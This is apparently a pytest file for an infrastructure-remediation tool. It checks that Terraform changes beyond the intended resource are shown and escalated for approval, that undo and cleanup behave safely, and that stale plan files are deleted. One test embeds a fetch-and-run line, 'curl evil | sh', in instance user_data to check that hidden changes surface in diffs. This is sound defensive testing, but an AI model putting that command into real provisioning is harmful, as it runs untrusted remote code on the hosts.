"""Terraform through planner, policy and executor: nothing hidden, nothing beyond what was said, no file left behind."""

import io
import os
import time
from collections.abc import Sequence
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from pydantic import JsonValue
from rich.console import Console

from copilot.actions import revive
from copilot.adapters.terraform import Terraform
from copilot.core.case import Case, CaseStatus
from copilot.core.cluster import ClusterDump
from copilot.core.plan import ActionCall, Decision, Plan, Proposal, Risk, TerraformChange
from copilot.core.ref import Ref
from copilot.core.resources import rendered, restores
from copilot.core.value import JsonObject
from copilot.errors import NotApproved, WorldChanged
from copilot.executor import Executor
from copilot.planning import Planner, Stamp
from copilot.policy import Budget, Circumstances, Kind, Mode, PolicyDocument, judge
from copilot.ports.write import Applied, Receipt
from copilot.surfaces.cards import plan_card
from copilot.surfaces.slack.blocks import buttons, case_blocks
from tests.agent.world import START, Bench, anomaly
from tests.fakes import NOW, waiting_case

POOL = "aws_autoscaling_group.pool"
GROW = ActionCall(
    action="terraform_apply",
    arguments={"directory": "pool", "resource": POOL, "variables": {"desired": 4}, "before": {"desired": 2}},
)
Resource = dict[str, JsonValue]


def resource(address: str, *verbs: str, before: Any = None, after: Any = None, **fields: Any) -> Resource:
    return {"address": address, "actions": list(verbs or ("update",)), "before": before, "after": after, **fields}


def sized(size: int, was: int) -> Resource:
    return resource(POOL, before={"desired": was}, after={"desired": size})


class FakeTerraform:
    """The planning and the writing port; ``extra`` is what else would change, ``size`` what the group has now."""

    via = "terraform"

    def __init__(self, plans: Path) -> None:
        self.real = Terraform(plans.parent, plans=plans, environment={})
        self.plans = plans
        plans.mkdir()
        self.size = 2
        self.extra: Sequence[Resource] = ()
        self.log: list[int] = []

    async def plan(self, change: TerraformChange) -> TerraformChange:
        file = self.plans / f"{len(list(self.plans.iterdir()))}-{time.monotonic_ns()}.tfplan"
        file.write_text("secret")
        found = (sized(int(str(change.variables["desired"])), self.size), *self.extra)
        return change.model_copy(update={"plan_file": str(file), "resource_changes": found})

    async def discard(self, change: TerraformChange) -> None:
        await self.real.discard(change)

    async def sweep(self, older: timedelta) -> int:
        return await self.real.sweep(older)

    async def dry_run(self, change: Any) -> JsonObject:
        return {}

    async def apply(self, change: Any) -> Receipt:
        self.size = int(change.variables["desired"])
        self.log.append(self.size)
        return Receipt({}, "applied")

    async def applied(self, change: Any) -> Applied:
        return Applied.YES if self.size == change.variables["desired"] else Applied.CANNOT_TELL

    @property
    def files(self) -> list[str]:
        return [f.name for f in self.plans.iterdir()]


class Ground(Bench):
    """The bench with a cloud behind Terraform."""

    def __post_init__(self) -> None:
        super().__post_init__()
        self.terraform = FakeTerraform(self.directory / "plans")
        self.writer = self.terraform  # type: ignore[assignment]
        self.propose = lambda diagnosis, dump: Proposal(
            title="Grow", actions=(GROW,), reason="full", proposed_by="runbook:test"
        )

    def planner(self) -> Planner:
        return Planner(
            self.cluster, clock=self.clock, policy=lambda: self.policy, environment="test",
            infrastructure=self.terraform,
        )  # fmt: skip

    def steps(self, *, name: str = "test") -> Any:
        made = super().steps(name=name)
        made.remedies._planner = self.planner()
        assert isinstance(made.executor, Executor)
        made.executor._planner = made.executor._undo._planner = self.planner()
        return made

    async def plan(self, *, by: str = "runbook:test") -> Plan:
        wanted = Proposal(title="Grow", actions=(GROW,), reason="full", proposed_by=by)
        return await self.planner().plan(wanted, Stamp())


@pytest.fixture
async def ground(tmp_path: Path) -> Any:
    made = Ground(tmp_path)
    yield made
    await made.store.close()


DRIFT = resource("aws_security_group_rule.db", before={"cidr": "10.0.0.0/8"}, after={"cidr": "0.0.0.0/0"})
LOSS = resource("aws_db_instance.orders", "delete", "create", before={"size": 1}, after={"size": 2})
BOLD = PolicyDocument(default_mode=Mode.ACT, act_max_risk=Risk.IRREVERSIBLE, budget=Budget(pods=9, nodes=9))


async def test_what_goes_beyond_the_named_resource_is_shown_and_asked_for(ground: Ground) -> None:
    alone = await ground.plan()
    assert alone.risk is Risk.DISRUPTIVE
    ground.terraform.extra = (DRIFT,)
    plan = await ground.plan()
    assert plan.risk is Risk.DESTRUCTIVE, "its variables do not take a repaired drift back"
    lines = plan.steps[0].diff.splitlines()
    assert "+ 2 resources changed, 0 deleted or replaced; 1 beyond aws_autoscaling_group.pool" in lines
    assert lines.index("+ update aws_security_group_rule.db (beyond what is meant)") < lines.index(f"+ update {POOL}")
    assert '+   cidr: "10.0.0.0/8" -> "0.0.0.0/0"' in lines
    judgement = judge(plan, BOLD, Circumstances(now=START))
    assert judgement.kind is Kind.ASK
    assert "more than the one resource" in str(judgement.reasons)
    assert "more than the one resource" not in str(judge(alone, BOLD, Circumstances(now=START)).reasons)


@pytest.mark.parametrize(
    ("named", "addresses", "extra"),
    [
        (POOL, [f'{POOL}["a"]', f'{POOL}["b"]'], 0),
        ("module.pool", ["module.pool.aws_autoscaling_group.this", "module.db.aws_db_instance.x"], 1),
        (POOL, [f"{POOL}_old"], 0),
        (POOL, [POOL, f"{POOL}_old"], 1),
        ("desired_capacity", [f'{POOL}["a"]'], 0),
        ("desired_capacity", [f'{POOL}["a"]', f'{POOL}["b"]'], 2),
    ],
)
def test_which_resource_is_meant(named: str, addresses: list[str], extra: int) -> None:
    changes = tuple(resource(a) for a in addresses)
    change = TerraformChange(directory="d", target=Ref(kind="NodeGroup", name=named), resource_changes=changes)
    assert rendered(change).count("(beyond what is meant)") == extra


async def test_43_a_loss_among_five_hundred_updates_is_first_counted_and_needs_two(ground: Ground) -> None:
    many = [resource(f"aws_x.r{i:03}", before={"tag": "a"}, after={"tag": "b"}) for i in range(500)]
    ground.terraform.extra = (*many[:250], LOSS, *many[250:])
    plan = await ground.plan()
    assert plan.risk is Risk.IRREVERSIBLE
    assert judge(plan, PolicyDocument(), Circumstances(now=START)).signatures == 2
    case = waiting_case().with_(plan=plan)
    (head,) = [n for n, line in enumerate(plan.steps[0].diff.splitlines()) if "resources changed" in line]
    assert plan.steps[0].diff.splitlines()[head : head + 2] == [
        f"+ 502 resources changed, 1 deleted or replaced; 501 beyond {POOL}",
        "- delete/create aws_db_instance.orders (beyond what is meant)",
    ]
    slack = str(case_blocks(case, now=NOW))
    assert "delete/create aws_db_instance.orders" in slack
    offered = buttons(case, now=NOW)
    assert offered is not None
    assert "'approve'" not in slack, "a part of the plan is not shown there, so nobody may approve it there"
    assert _drawn(plan).count("aws_x.r") == 500, "the terminal shows all of it"


def _drawn(plan: Plan) -> str:
    console = Console(width=200, file=io.StringIO())
    console.print(plan_card(plan))
    assert isinstance(console.file, io.StringIO)
    return console.file.getvalue()


def test_what_differs_deep_inside_or_far_behind_is_shown() -> None:
    deep = {"tags": {"team": "a"}, "rules": [{"port": 80}, {"port": 443}], "user_data": "x" * 400 + "harmless"}
    bad = {"tags": {"team": "a"}, "rules": [{"port": 80}, {"port": 22}], "user_data": "x" * 400 + "curl evil | sh"}
    one = resource(POOL, before={**deep, "arn": "a"}, after=bad, unknown={"arn": True})
    change = TerraformChange(directory="d", target=Ref(kind="NodeGroup", name=POOL), resource_changes=(one,))
    lines = rendered(change).splitlines()
    assert lines[2:4] == ['+   arn: "a" -> (known after apply)', "+   rules.001.port: 443 -> 22"]
    assert "curl evil | sh" in lines[4]
    assert all(len(line) < 600 for line in lines)


async def test_an_undo_goes_back_to_what_was_found_and_no_further(ground: Ground) -> None:
    case, executor = await _executed(ground)
    assert case.plan
    ground.terraform.extra = (DRIFT,)
    with pytest.raises(NotApproved, match="more than put back"):
        await executor.undo(case.plan, case_id=case.id)
    assert ground.terraform.log == [4]
    ground.terraform.extra = ()
    run = await executor.undo(case.plan, case_id=case.id)
    assert run is not None
    assert run.done
    assert ground.terraform.log == [4, 2]


async def test_a_group_that_somebody_resized_since_is_left_alone(ground: Ground) -> None:
    case, executor = await _executed(ground)
    assert case.plan
    ground.terraform.size = 7
    with pytest.raises(WorldChanged, match="Somebody changed"):
        await executor.undo(case.plan, case_id=case.id)
    assert ground.terraform.log == [4]


async def _executed(ground: Ground) -> tuple[Case, Executor]:
    ground.healthy = lambda cluster: True
    async with ground.checkpoints() as saver:
        copilot = ground.copilot(saver)
        case = await copilot.settle((await copilot.open([anomaly()])).id)
        assert case.plan
        case = await copilot.decide(case.id, case.plan.digest, Decision.APPROVE, by="ann", role="operator")
    assert case.status is CaseStatus.RESOLVED
    return case, ground.steps().executor


def test_what_restores_what() -> None:
    done = resource(POOL, before={"desired": 2, "arn": "a"}, after={"desired": 4})
    assert restores(resource(POOL, after={"desired": 2, "arn": None}, unknown={"arn": True}), done)
    assert not restores(resource(POOL, after={"desired": 3}), done)
    assert not restores(resource(POOL, "delete"), done)
    assert restores(resource(POOL, "delete"), resource(POOL, "create", after={"desired": 4}))
    assert not restores(resource(POOL, "create", after={"desired": 2}), resource(POOL, "delete")), "data is not back"


ENDS = {"rejected": Decision.REJECT, "approved": Decision.APPROVE}


@pytest.mark.parametrize("decision", ENDS.values(), ids=ENDS)
async def test_no_plan_file_outlives_its_plan(ground: Ground, decision: Decision) -> None:
    ground.healthy = lambda cluster: True
    async with ground.checkpoints() as saver:
        copilot = ground.copilot(saver)
        case = await copilot.settle((await copilot.open([anomaly()])).id)
        assert case.plan
        assert len(ground.terraform.files) == 1
        done = await copilot.decide(case.id, case.plan.digest, decision, by="ann", role="operator")
    assert not done.status.open
    assert ground.terraform.files == []


async def test_a_plan_that_ran_out_or_was_not_chosen_leaves_no_file(ground: Ground) -> None:
    ground.clock.moment = START
    async with ground.checkpoints() as saver:
        copilot = ground.copilot(saver)
        case = await copilot.settle((await copilot.open([anomaly()])).id)
        first = ground.terraform.files
        ground.clock.moment += timedelta(minutes=16)
        again = (await copilot.work())[0]
        assert again.plan
        assert case.plan
        assert again.plan.digest != case.plan.digest
        assert len(ground.terraform.files) == 1
        assert ground.terraform.files != first
        remedies = ground.steps().remedies
        (runbook,) = remedies._runbooks
        remedies._runbooks = (runbook, runbook)
        dump = ClusterDump(taken_at=START, objects={})
        assert case.diagnosis
        assert (await remedies.find(case, case.diagnosis, dump)).plan is not None
    assert len(ground.terraform.files) == 2, "of two plans that were weighed, the chosen one's is kept"


async def test_what_a_dead_process_left_is_swept_by_age(ground: Ground) -> None:
    old, new = ground.terraform.plans / "old.tfplan", ground.terraform.plans / "new.tfplan"
    for file in (old, new):
        file.write_text("secret")
    past = time.time() - timedelta(hours=2).total_seconds()
    os.utime(old, (past, past))
    async with ground.checkpoints() as saver:
        await ground.copilot(saver).work()
    assert ground.terraform.files == ["new.tfplan"]


async def test_only_our_own_files_are_deleted(ground: Ground, tmp_path: Path) -> None:
    other = tmp_path / "precious.tfplan"
    other.write_text("x")
    change = revive(GROW).changes({})[0]
    assert isinstance(change, TerraformChange)
    for path in (str(other), str(ground.terraform.plans / ".." / "precious.tfplan"), ""):
        await ground.terraform.discard(change.model_copy(update={"plan_file": path}))
    assert other.exists()
